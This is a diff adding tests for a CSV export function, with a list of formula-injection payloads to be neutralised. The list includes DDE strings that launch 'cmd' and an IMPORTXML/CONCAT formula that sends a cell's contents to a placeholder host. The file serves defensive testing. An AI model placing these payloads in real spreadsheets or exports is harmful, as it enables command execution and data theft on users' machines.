@@ -235,3 +235,51 @@ test.each([
 ] as const)("a cell %j is written as %s", (cell, text) => {
   expect(cellText(cell)).toBe(text);
 });
+
+/** What opens a formula, a command, or another cell in some spreadsheet. */
+const FORMULAS = [
+  "=1+1",
+  "=cmd|'/C calc'!A0",
+  '=HYPERLINK("http://x.example","y")',
+  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
+  '=WEBSERVICE("http://x.example")',
+  '=DDE("cmd";"/C calc";"x")',
+  "=@SUM(1)",
+  "==1",
+  "= 1",
+  "=\t1",
+  "+1+1",
+  "+cmd|'/C calc'!A0",
+  "++1",
+  "-1+1",
+  "-2+3+cmd|'/C calc'!A0",
+  "--1",
+  "@SUM(1+1)",
+  "@cmd|'/C calc'!A0",
+  "@@",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "\r\n=1+1",
+  "\uff1d1+1",
+  "\uff0b1",
+  "\uff0d1",
+  "\uff20SUM(1)",
+  '=1","=2',
+  '",=1+1,"',
+  'a"\r\n=1+1,"',
+] as const;
+
+/** A table as a spreadsheet reads it (RFC 4180). */
+function cellsOf(csv: string): readonly string[] {
+  return [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n)/g)].map(([, cell = ""]) =>
+    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
+  );
+}
+
+test.each(FORMULAS)("%j stays one cell, and no formula", (text) => {
+  const cells = cellsOf(csvOf(["a", "b", "c"], [["x", text, "y"]]));
+  expect(cells).toHaveLength(6);
+  expect(cells[4]?.replace(/^'/, "")).toBe(text);
+  expect(cells.filter((cell) => /^[\s\uff0b\uff0d\uff1d\uff20=+\-@]/u.test(cell))).toEqual([]);
+});
